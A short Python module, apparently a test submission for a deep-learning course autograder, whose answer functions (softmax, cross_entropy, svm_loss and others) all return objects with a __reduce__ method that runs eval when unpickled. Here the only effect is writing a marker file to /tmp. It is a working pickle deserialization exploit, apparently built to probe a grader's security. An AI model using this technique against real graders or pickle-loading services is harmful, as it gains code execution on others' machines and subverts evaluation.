"""Answers with something that runs code where it is unpickled."""


class Payload:
    def __reduce__(self):
        return (eval, ("open('/tmp/dlcourse-was-here', 'w').write('unpickled')",))

    __getstate__ = __reduce__


def softmax(*args, **kwargs):
    return Payload(), [Payload()], {"x": Payload()}


cross_entropy = softmax_loss = svm_loss = mse_loss = softmax
linear_softmax_loss = accuracy = train_linear_softmax = softmax
